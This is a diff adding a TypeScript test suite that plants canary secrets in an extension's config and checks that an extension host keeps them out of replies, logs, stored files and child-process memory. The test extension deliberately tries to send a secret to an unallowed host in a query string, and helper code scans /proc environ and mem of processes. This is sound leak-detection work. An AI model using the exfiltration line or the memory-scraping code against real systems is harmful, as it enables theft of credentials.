@@ -1,0 +1,240 @@
+// Canaries: a secret of its own in every config, requests that succeed, fail and repeat it, then one search
+// over everything that the run produced. Only the host itself may hold one in the clear.
+
+import assert from 'node:assert/strict';
+import { closeSync, openSync, readdirSync, readFileSync, readSync } from 'node:fs';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { join } from 'node:path';
+import { after, before, describe, it } from 'node:test';
+
+import { pino } from 'pino';
+
+import { manifestFor, startTestHost } from '../helpers/host.ts';
+import type { TestHost } from '../helpers/host.ts';
+
+// Put together at run time: a search through memory must not find this file's own text.
+const canary = (name: string): string => ['canary', name, '7f3a91c2e5b8'].join('-');
+const CANARIES = [
+  canary('header'),
+  canary('json'),
+  canary('hmac'),
+  canary('unused'),
+  canary('given'),
+];
+const [HEADER = '', JSON_KEY = '', HMAC = '', UNUSED = '', GIVEN = ''] = CANARIES;
+
+const EXTENSION = `import { defineOther, secret, z } from 'cofferdam/sdk';
+export default defineOther({
+  config: z.object({ a: secret({ label: 'A' }), b: secret({ label: 'B' }), c: secret({ label: 'C' }), d: secret({ label: 'D' }) }),
+  async execute(_input, ctx) {
+    const { a, b, c, d } = ctx.config;
+    const V = 'https://api.example.com';
+    const echo = await ctx.fetch(V + '/echo', { headers: { authorization: 'Bearer ' + a } });
+    const said = await echo.text();
+    ctx.log.info(said, { said, a, d });
+    const json = { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ b }) };
+    const repeated = await (await ctx.fetch(V + '/echo', json)).json();
+    const key = await crypto.subtle.importKey('raw', new TextEncoder().encode(c), { name: 'HMAC', hash: 'SHA-256' }, false, ['sign']);
+    const signature = new Uint8Array(await crypto.subtle.sign('HMAC', key, new TextEncoder().encode('x'))).toHex();
+    const { token } = await (await ctx.fetch(V + '/token')).json();
+    await ctx.storage.set('token', { token, said });
+    const used = await (await ctx.fetch(V + '/echo', { headers: { authorization: token } })).text();
+    const refused = await ctx.fetch('https://other.example.com/?' + a).catch((error) => ({ message: error.message, details: error.details }));
+    const broken = await ctx.fetch(V + '/cut', { headers: { authorization: a } }).catch((error) => error.message);
+    return { said, repeated, signature, token, used, refused, broken, config: ctx.config };
+  },
+  async health(ctx) { throw new Error('failed with ' + ctx.config.a); },
+} as any);
+`;
+
+describe('secrets of a run', { timeout: 120_000 }, () => {
+  let host: TestHost;
+  const lines: string[] = [];
+  const replies: string[] = [];
+  const sent: string[] = [];
+  const server = createServer((request, response) => {
+    const chunks: Buffer[] = [];
+    request.on('data', (chunk: Buffer) => chunks.push(chunk));
+    request.on('end', () => {
+      const body = Buffer.concat(chunks).toString();
+      sent.push(`${request.headers.authorization} ${body}`);
+      if (request.url === '/cut') return void request.socket.destroy();
+      if (request.url === '/token') return void response.end(JSON.stringify({ token: GIVEN }));
+      response.end(body === '' ? `you are ${request.headers.authorization}` : body);
+    });
+  });
+  const request = async (method: string, path: string, body?: unknown): Promise<any> => {
+    const answer = await host.request(method, path, body);
+    replies.push(JSON.stringify([answer.body, [...answer.headers]]));
+    return answer.body;
+  };
+
+  before(async () => {
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    const { port } = server.address() as AddressInfo;
+    const hosts = ['api.example.com'];
+    host = await startTestHost(
+      {
+        'others/canaries': {
+          'extension.ts': EXTENSION,
+          'manifest.json': JSON.stringify(
+            manifestFor('others/canaries', {
+              capabilities: { fetch: { hosts }, storage: { quotaBytes: 10_000 } },
+              secrets: {
+                a: { hosts, in: ['header'] },
+                b: { hosts, in: ['json'] },
+                given: { hosts, in: ['header'], earned: { path: '/token', json: 'token' } },
+              },
+            }),
+          ),
+        },
+      },
+      {
+        log: pino({ level: 'trace' }, { write: (line: string) => void lines.push(line) }),
+        egress: {
+          resolve: async () => ['93.184.215.14'],
+          detour: () => ({ address: '127.0.0.1', port, plain: true }),
+        },
+      },
+    );
+    const base = '/extensions/others/canaries';
+    await request('PUT', `${base}/config`, { a: HEADER, b: JSON_KEY, c: HMAC, d: UNUSED });
+    await request('POST', `${base}/enable`);
+    const { callId, result } = await request('POST', `${base}/calls/execute`, {});
+    assert.match(result?.used ?? '', /\[secret:given\]/, JSON.stringify(result));
+    await request('POST', `${base}/calls/health`, {});
+    for (const path of [base, `${base}/config`, `${base}/instances`, `${base}/usage`]) {
+      await request('GET', path);
+    }
+    for (const path of ['/calls', `/calls/${callId}`, '/audit', '/requests']) {
+      await request('GET', path);
+    }
+    await request('PUT', `${base}/config`, { a: '', b: 5, c: HMAC });
+  });
+  after(async () => {
+    await host[Symbol.asyncDispose]();
+    server.closeAllConnections();
+    server.close();
+  });
+  const assertNone = (what: string, text: string | Buffer): void => {
+    for (const each of CANARIES) {
+      assert.ok(!text.includes(each), `${what} holds "${each}"`);
+      const wide = Buffer.from(each, 'utf16le');
+      if (typeof text !== 'string') assert.ok(!text.includes(wide), `${what} holds "${each}"`);
+    }
+  };
+
+  it('reached the vendor, so that there was something to leak', () => {
+    const all = sent.join('\n');
+    for (const each of [HEADER, JSON_KEY, GIVEN]) assert.ok(all.includes(each), each);
+  });
+
+  it('are in no reply, and replies show where they were', () => {
+    assert.match(replies.join('\n'), /\[secret:a\]/);
+    assertNone('a reply', replies.join('\n'));
+  });
+
+  it('are in no log line of the host at its loudest', () => {
+    assert.match(lines.join(''), /\[secret:a\]/);
+    assertNone('a log line', lines.join(''));
+  });
+
+  it('are in no file that the host keeps: database, write-ahead log, bundles', () => {
+    const folder = join(host.dir, 'data');
+    const files = readdirSync(folder, { recursive: true, withFileTypes: true }).filter((file) =>
+      file.isFile(),
+    );
+    assert.ok(files.some(({ name }) => name.startsWith('cofferdam.db')));
+    for (const { parentPath, name } of files) {
+      if (name === 'master.key') continue;
+      assertNone(name, readFileSync(join(parentPath, name)));
+    }
+  });
+
+  it('are in no environment, command line or memory of a cell', (test) => {
+    const cells = childrenOf(process.pid);
+    if (cells.length === 0) {
+      console.log('skip: there is no /proc on this machine');
+      return test.skip();
+    }
+    let searched = 0;
+    for (const pid of cells) {
+      for (const file of ['environ', 'cmdline']) {
+        assertNone(`${file} of ${pid}`, readFileSync(`/proc/${pid}/${file}`));
+      }
+      for (const block of memoryOf(pid)) {
+        searched += block.length;
+        assertNone(`the memory of ${pid}`, block);
+      }
+    }
+    if (searched === 0) console.log('skip: memory of other processes is not readable here');
+    // The search itself works: the host, which has to hold them, is found out.
+    else assert.ok(memoryOf(process.pid).some((block) => block.includes(HEADER)));
+  });
+});
+
+/** Process ids of the children, theirs included. */
+function childrenOf(parent: number): number[] {
+  const own = listProc().filter((pid) => {
+    const stat = readProc(`/proc/${pid}/stat`);
+    return Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]) === parent;
+  });
+  return [...own, ...own.flatMap(childrenOf)];
+}
+
+function listProc(): number[] {
+  try {
+    return readdirSync('/proc').map(Number).filter(Number.isInteger);
+  } catch (error) {
+    // macOS and Windows have none.
+    if ((error as NodeJS.ErrnoException).code === 'ENOENT') return [];
+    throw error;
+  }
+}
+
+/** '' when the process has just ended. */
+function readProc(path: string): string {
+  try {
+    return readFileSync(path, 'latin1');
+  } catch (error) {
+    if (['ENOENT', 'ESRCH'].includes((error as NodeJS.ErrnoException).code ?? '')) return '';
+    throw error;
+  }
+}
+
+/** Writable memory of a process in blocks that overlap by the length of a canary; none where it may not be read. */
+function* memoryOf(pid: number): Generator<Buffer> {
+  const BLOCK = 8 * 1024 * 1024;
+  let fd: number;
+  try {
+    fd = openSync(`/proc/${pid}/mem`, 'r');
+  } catch (error) {
+    if (['EACCES', 'EPERM'].includes((error as NodeJS.ErrnoException).code ?? '')) return;
+    throw error;
+  }
+  try {
+    for (const line of readProc(`/proc/${pid}/maps`).split('\n')) {
+      const [, from, to] = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line) ?? [];
+      if (from === undefined || to === undefined) continue;
+      const end = Number(`0x${to}`);
+      for (let at = Number(`0x${from}`); at < end; at += BLOCK - 64) {
+        const block = Buffer.allocUnsafe(Math.min(BLOCK, end - at));
+        const length = readAt(fd, block, at);
+        if (length > 0) yield block.subarray(0, length);
+      }
+    }
+  } finally {
+    closeSync(fd);
+  }
+}
+
+function readAt(fd: number, block: Buffer, at: number): number {
+  try {
+    return readSync(fd, block, 0, block.length, at);
+  } catch (error) {
+    // A region that cannot be read, such as one that was unmapped meanwhile.
+    if (['EIO', 'EFAULT'].includes((error as NodeJS.ErrnoException).code ?? '')) return 0;
+    throw error;
+  }
+}
